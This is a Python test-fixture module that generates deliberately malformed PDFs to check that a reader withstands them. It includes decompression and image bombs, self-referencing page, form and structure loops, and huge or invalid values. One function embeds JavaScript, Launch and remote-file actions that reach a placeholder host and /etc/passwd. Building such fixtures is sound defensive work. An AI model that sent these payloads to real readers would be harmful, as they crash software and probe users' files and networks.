# ruff: noqa: E501  (files are written out as they are)
"""PDFs made to break readers: each is a function that gives the bytes, small to keep, large to read."""

from __future__ import annotations

import zlib
from collections.abc import Callable

Objects = dict[int, bytes]
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def written(objects: Objects, trailer: bytes = b"", size: int | None = None, root: int = 1) -> bytes:
    """A PDF file of numbered objects with a right cross-reference table; ``root`` is the catalogue."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, highest = len(out), max(objects)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (highest + 1)
    for number in range(1, highest + 1):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 00000 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        size or highest + 1,
        root,
        trailer,
        start,
    )
    return bytes(out)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), extra, data)


def deflated(data: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter [%s]" % (b" /FlateDecode" * times))


def one_page(
    content: bytes, box: bytes = b"0 0 612 792", page: bytes = b"", font: bytes = FONT, more: Objects | None = None
) -> bytes:
    """One page; ``content`` is its stream object, ``page`` further entries, ``more`` objects from 6."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >>"
        b" /XObject << /X 6 0 R >> >> %s >>" % (box, page),
        4: content,
        5: font,
        **(more or {}),
    }
    return written(objects)


def shown(text: str, x: int = 72, y: int = 700, size: int = 10) -> bytes:
    escaped = text.replace("\\", r"\\").replace("(", r"\(").replace(")", r"\)")
    return b"BT /F1 %d Tf %d %d Td (%s) Tj ET\n" % (size, x, y, escaped.encode("cp1252", "replace"))


HELLO = shown("Cuenta P\u00fablica 2022: 1.234 personas atendidas.")


def truncated(whole: bytes) -> bytes:
    return whole[: len(whole) * 2 // 3]


def wrong_offsets(whole: bytes) -> bytes:
    """A cross-reference table that points anywhere."""
    at = whole.rindex(b"startxref")
    return whole[:at] + b"startxref\n99999999\n%%EOF\n"


def no_pages() -> bytes:
    return written({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"})


def claims_pages() -> bytes:
    return written({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 2147483647 >>"})


def page_tree_loop() -> bytes:
    return written(
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>"}
    )


def content_loop() -> bytes:
    return one_page(b"4 0 R")


def form_loop() -> bytes:
    """A form that draws itself twice."""
    form = stream(
        b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    )
    return one_page(stream(HELLO + b"/X Do"), more={6: form})


def form_bomb(levels: int = 24) -> bytes:
    """Forms that each draw the next one ten times."""
    more = {
        6 + i: stream(
            b"/X Do " * 10,
            b"/Type /XObject /Subtype /Form /BBox [0 0 900 900] /Resources << /XObject << /X %d 0 R >> >>" % (7 + i),
        )
        for i in range(levels)
    }
    more[6 + levels] = stream(b"0 0 m 9 9 l S", b"/Type /XObject /Subtype /Form /BBox [0 0 900 900]")
    return one_page(stream(HELLO + b"/X Do"), more=more)


def previous_loop(whole: bytes) -> bytes:
    """A cross-reference table whose predecessor is itself."""
    start = whole[whole.rindex(b"startxref") :].split()[1]
    at = whole.rindex(b">>")
    return whole[:at] + b" /Prev " + start + b" " + whole[at:]


def nested_arrays(depth: int = 100_000) -> bytes:
    return one_page(stream(HELLO), page=b"/Annots " + b"[" * depth + b"]" * depth)


def nested_dictionaries(depth: int = 100_000) -> bytes:
    return one_page(stream(HELLO), page=b"/X " + b"<</X " * depth + b"1" + b">>" * depth)


def nested_in_content(depth: int = 200_000) -> bytes:
    return one_page(deflated(HELLO + b"[" * depth))


def nested_saves(depth: int = 300_000) -> bytes:
    return one_page(deflated(b"q " * depth + HELLO))


def outline_loop() -> bytes:
    return written(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            4: stream(HELLO),
            5: FONT,
            6: b"<< /First 7 0 R /Last 7 0 R >>",
            7: b"<< /Title (a) /Next 7 0 R /First 7 0 R /Parent 7 0 R >>",
        }
    )


def structure_loop() -> bytes:
    """A tagged PDF whose structure tree holds itself."""
    return written(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /MarkInfo << /Marked true >> /StructTreeRoot 6 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /StructParents 0 "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            4: stream(b"/TD << /MCID 0 >> BDC " + HELLO + b"EMC"),
            5: FONT,
            6: b"<< /Type /StructTreeRoot /K 7 0 R /ParentTree 8 0 R >>",
            7: b"<< /Type /StructElem /S /Table /P 7 0 R /K [7 0 R 7 0 R 0] /Pg 3 0 R >>",
            8: b"<< /Nums [0 [7 0 R]] >>",
        }
    )


def structure_depth(depth: int = 20_000) -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /MarkInfo << /Marked true >> /StructTreeRoot 6 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /StructParents 0 "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        4: stream(b"/TD << /MCID 0 >> BDC " + HELLO + b"EMC"),
        5: FONT,
        6: b"<< /Type /StructTreeRoot /K 8 0 R /ParentTree 7 0 R >>",
        7: b"<< /Nums [0 [%d 0 R]] >>" % (8 + depth),
    }
    for i in range(8, 8 + depth):
        objects[i] = b"<< /Type /StructElem /S /Table /P %d 0 R /K %d 0 R /Pg 3 0 R >>" % (i - 1, i + 1)
    objects[8 + depth] = b"<< /Type /StructElem /S /TD /P %d 0 R /K 0 /Pg 3 0 R >>" % (7 + depth)
    return written(objects)


def structure_spans() -> bytes:
    """A tagged table whose cells span a thousand million rows and columns."""
    return written(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /MarkInfo << /Marked true >> /StructTreeRoot 6 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /StructParents 0 "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            4: stream(
                b"".join(
                    b"/TD << /MCID %d >> BDC %s EMC\n"
                    % (i, shown(f"celda {i}", 72 + 100 * (i % 2), 700 - 20 * (i // 2)))
                    for i in range(4)
                )
            ),
            5: FONT,
            6: b"<< /Type /StructTreeRoot /K 7 0 R /ParentTree 12 0 R >>",
            7: b"<< /Type /StructElem /S /Table /P 6 0 R /K [8 0 R 9 0 R] /Pg 3 0 R >>",
            8: b"<< /Type /StructElem /S /TR /P 7 0 R /K [10 0 R 11 0 R] /Pg 3 0 R >>",
            9: b"<< /Type /StructElem /S /TR /P 7 0 R /K [13 0 R 14 0 R] /Pg 3 0 R >>",
            10: b"<< /Type /StructElem /S /TD /P 8 0 R /K 0 /Pg 3 0 R /A << /O /Table /RowSpan 1000000000 /ColSpan 1000000000 >> >>",
            11: b"<< /Type /StructElem /S /TD /P 8 0 R /K 1 /Pg 3 0 R /A << /O /Table /ColSpan -5 /RowSpan 0 >> >>",
            12: b"<< /Nums [0 [10 0 R 11 0 R 13 0 R 14 0 R]] >>",
            13: b"<< /Type /StructElem /S /TD /P 9 0 R /K 2 /Pg 3 0 R /A << /O /Table /RowSpan 2147483647 >> >>",
            14: b"<< /Type /StructElem /S /TD /P 9 0 R /K 3 /Pg 3 0 R >>",
        }
    )


def stream_bomb(mebibytes: int = 2000) -> bytes:
    """A page content of blanks that unpacks to thousands of times its size."""
    packer = zlib.compressobj(9)
    block = b" " * (1 << 20)
    packed = b"".join(packer.compress(block) for _ in range(mebibytes)) + packer.flush()
    return one_page(stream(packed, b"/Filter /FlateDecode"))


def nested_stream_bomb() -> bytes:
    """Packed twice: a few kilobytes that hold gigabytes."""
    packer = zlib.compressobj(9)
    block = b" " * (1 << 20)
    packed = b"".join(packer.compress(block) for _ in range(4000)) + packer.flush()
    return one_page(stream(zlib.compress(packed, 9), b"/Filter [/FlateDecode /FlateDecode]"))


def picture_bomb() -> bytes:
    """A picture of 60,000 by 60,000 points on a page without text, in some kilobytes."""
    row = zlib.compress(bytes(100_000_000), 9)
    image = stream(
        row,
        b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode",
    )
    return one_page(stream(b"q 612 0 0 792 0 0 cm /X Do Q"), more={6: image})


def many_pages(count: int = 10_000, content: bytes = HELLO) -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(b"%d 0 R" % (5 + i) for i in range(count)), count),
        3: FONT,
        4: deflated(content),
    }
    for i in range(count):
        objects[5 + i] = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 3 0 R >> >> >>"
        )
    return written(objects)


def many_paths(count: int = 1_000_000) -> bytes:
    lines = b"".join(b"%d %d m %d %d l S\n" % (i % 612, i % 792, (i * 7) % 612, (i * 3) % 792) for i in range(count))
    return one_page(deflated(HELLO + lines))


def many_rules(count: int = 200_000) -> bytes:
    """Horizontal and vertical rules that all cross, as a table has them."""
    lines = b"".join(
        b"%.3f 0 m %.3f 792 l S\n" % (x, x) if i % 2 else b"0 %.3f m 612 %.3f l S\n" % (x, x)
        for i in range(count)
        for x in [(i * 612 / count)]
    )
    return one_page(deflated(HELLO + lines))


def many_boxes(count: int = 200) -> bytes:
    """A drawn grid of count by count cells with a figure in each."""
    step = 2000 / count
    boxes = b"".join(
        b"%.2f %.2f %.2f %.2f re S\n" % (i * step, j * step, step, step) for i in range(count) for j in range(count)
    )
    text = b"BT /F1 2 Tf " + b"".join(
        b"1 0 0 1 %.2f %.2f Tm (%d) Tj " % (i * step + 1, j * step + 2, i + j)
        for i in range(count)
        for j in range(count)
    )
    return one_page(deflated(boxes + text + b"ET"), box=b"0 0 2000 2000")


def one_long_path(count: int = 1_000_000) -> bytes:
    points = b"".join(b"%d %d l\n" % (i % 612, (i * 7) % 792) for i in range(count))
    return one_page(deflated(HELLO + b"0 0 m\n" + points + b"S"))


def many_characters(count: int = 1_000_000) -> bytes:
    lines = [b"BT /F1 1 Tf 1 TL 1 0 0 1 0 790 Tm\n"]
    lines += [b"(%s) Tj T*\n" % (b"12.345 palabra " * 80)[:1200] for _ in range(count // 1200)]
    return one_page(deflated(b"".join(lines) + b"ET"))


def many_characters_on_one_spot(count: int = 200_000) -> bytes:
    return one_page(deflated(b"BT /F1 9 Tf " + b"1 0 0 1 99 99 Tm (7) Tj " * count + b"ET"))


def columns_of_figures(rows: int = 700, columns: int = 60) -> bytes:
    """A borderless table that fills a big page with figures."""
    marks = [b"BT /F1 6 Tf "]
    marks += [
        b"1 0 0 1 %d %d Tm (%d.%03d) Tj " % (40 * c + 5, 10 * r + 5, c, r) for r in range(rows) for c in range(columns)
    ]
    return one_page(deflated(b"".join(marks) + b"ET"), box=b"0 0 %d %d" % (40 * columns, 10 * rows))


def huge_box() -> bytes:
    return one_page(stream(HELLO), box=b"-1e9 -1e9 1e9 1e9")


def huge_box_with_table() -> bytes:
    """A drawn table on a page of a thousand kilometres, with an error a crop would be drawn of."""
    marks = b""
    rows = [("Programa", "Total"), ("Uno", "10"), ("Dos", "20"), ("Total", "35")]
    for i, (a, b) in enumerate(rows):
        y = 700 - 20 * i
        marks += shown(a, 80, y + 5) + shown(b, 205, y + 5)
        marks += b"72 %d 120 20 re S 192 %d 120 20 re S\n" % (y, y)
    return one_page(stream(marks), box=b"0 0 2e9 2e9")


def tiny_box() -> bytes:
    return one_page(stream(HELLO), box=b"0 0 0.0001 0.0001")


def inverted_box() -> bytes:
    return one_page(stream(HELLO), box=b"612 792 0 0")


def empty_box() -> bytes:
    return one_page(stream(HELLO), box=b"0 0 0 0")


def user_unit() -> bytes:
    return one_page(stream(HELLO), page=b"/UserUnit 1e30 /Rotate 45")


def numbers_beyond() -> bytes:
    return one_page(
        stream(
            b"1e38 0 0 1e38 0 0 cm "
            + HELLO
            + b"99999999999999999999 -99999999999999999999 m 1e400 nan l S BT /F1 1e30 Tf (1) Tj ET"
        )
    )


def huge_letters() -> bytes:
    return one_page(stream(shown("1.234", 0, 0, 1_000_000_000) + shown("2", 1, 1, 0) + HELLO))


def font_without_anything() -> bytes:
    return one_page(stream(HELLO), font=b"<< /Type /Font /Subtype /TrueType >>")


def font_loop() -> bytes:
    return one_page(
        stream(HELLO),
        font=b"<< /Type /Font /Subtype /Type0 /DescendantFonts [5 0 R] /Encoding 5 0 R /ToUnicode 5 0 R >>",
    )


def type3_loop() -> bytes:
    """A letter that is drawn by setting the same letter."""
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 0 /LastChar 255 "
        b"/Widths [%s] /Encoding << /Differences [0 %s] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F1 5 0 R >> >> >>"
        % (b"1 " * 256, b"/a " * 256)
    )
    return one_page(stream(HELLO), font=font, more={6: stream(b"1 0 d0 BT /F1 1 Tf (aaaa) Tj ET")})


def to_unicode_bomb() -> bytes:
    """A map in which a letter stands for a very long text, and ranges for everything."""
    ranges = b"1 begincodespacerange <00> <ff> endcodespacerange 1 beginbfchar <43> <%s> endbfchar\n" % (
        b"0041" * 50_000
    )
    ranges += b"1 beginbfrange <0000> <ffffffff> <0000> endbfrange\n" * 2000
    font = FONT[:-2] + b"/ToUnicode 6 0 R >>"
    return one_page(stream(HELLO), font=font, more={6: deflated(b"/CIDInit begincmap\n" + ranges + b"endcmap end")})


def surrogates() -> bytes:
    """A map to lone surrogates, NUL and codes that are no characters."""
    pairs = b"".join(
        b"<%02x> <%s>\n" % (33 + i, code)
        for i, code in enumerate([b"d800", b"dfff", b"0000", b"fffe", b"0007", b"202e"] * 15)
    )
    cmap = b"1 begincodespacerange <00> <ff> endcodespacerange 90 beginbfchar\n" + pairs + b"endbfchar"
    return one_page(stream(HELLO), font=FONT[:-2] + b"/ToUnicode 6 0 R >>", more={6: stream(cmap)})


def broken_stream() -> bytes:
    packed = bytearray(zlib.compress(HELLO * 100))
    packed[40:60] = b"\0" * 20
    return one_page(stream(bytes(packed), b"/Filter /FlateDecode"))


def wrong_length() -> bytes:
    return one_page(b"<< /Length 4294967295 >>\nstream\n" + HELLO + b"endstream")


def negative_length() -> bytes:
    return one_page(b"<< /Length -1 >>\nstream\n" + HELLO + b"endstream")


def absurd_predictor() -> bytes:
    data = zlib.compress(HELLO)
    return one_page(
        stream(
            data,
            b"/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 /BitsPerComponent 16 >>",
        )
    )


def filters_without_end() -> bytes:
    return one_page(stream(HELLO, b"/Filter [%s]" % (b"/ASCIIHexDecode " * 50_000)))


def object_stream_loop() -> bytes:
    return written(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: stream(b"2 0 << /Type /Pages >>", b"/Type /ObjStm /N 100000000 /First 4 /Extends 2 0 R"),
        }
    )


def javascript_and_files() -> bytes:
    """Actions on opening, embedded and remote files: none of which may do anything."""
    return written(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/'\\);while\\(1\\){}) >>"
            b" /AcroForm << /Fields [] /XFA 6 0 R >> >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>"
            b" /AA << /O << /S /Launch /F (\\\\\\\\192.0.2.1\\\\x) >> >>"
            b" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (file:///etc/passwd) /D [0] >> >>"
            b" << /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (http://192.0.2.1/m) >> >>] >>",
            4: stream(HELLO),
            5: FONT,
            6: stream(b"<?xml version='1.0'?><!DOCTYPE x SYSTEM 'http://192.0.2.1/x.dtd'><x/>"),
        }
    )


def external_stream() -> bytes:
    """A page whose content is said to be in another file."""
    return one_page(stream(b"", b"/F (/etc/passwd) /FFilter /ASCIIHexDecode"))


def many_fields(count: int = 50_000) -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [%s] >> >>"
        % b" ".join(b"%d 0 R" % (6 + i) for i in range(count)),
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [%s] >>"
        % b" ".join(b"%d 0 R" % (6 + i) for i in range(count)),
        4: stream(HELLO),
        5: FONT,
    }
    for i in range(count):
        objects[6 + i] = (
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (f%d) /V (%d) /Rect [%d %d %d %d] /P 3 0 R >>"
            % (i, i, i % 600, i % 790, i % 600 + 9, i % 790 + 9)
        )
    return written(objects)


SMALL: dict[str, Callable[[], bytes]] = {
    f.__name__: f
    for f in (
        no_pages, claims_pages, page_tree_loop, content_loop, form_loop, form_bomb, nested_arrays, nested_dictionaries,
        nested_in_content, nested_saves, outline_loop, structure_loop, structure_depth, structure_spans,
        nested_stream_bomb, picture_bomb, huge_box, huge_box_with_table, tiny_box, inverted_box, empty_box, user_unit,
        numbers_beyond, huge_letters, font_without_anything, font_loop, type3_loop, to_unicode_bomb, surrogates,
        broken_stream, wrong_length, negative_length, absurd_predictor, filters_without_end, object_stream_loop,
        javascript_and_files, external_stream,
    )
}  # fmt: skip
LARGE: dict[str, Callable[[], bytes]] = {
    f.__name__: f
    for f in (
        stream_bomb, many_pages, many_paths, many_rules, many_boxes, one_long_path, many_characters,
        many_characters_on_one_spot, columns_of_figures, many_fields,
    )
}  # fmt: skip
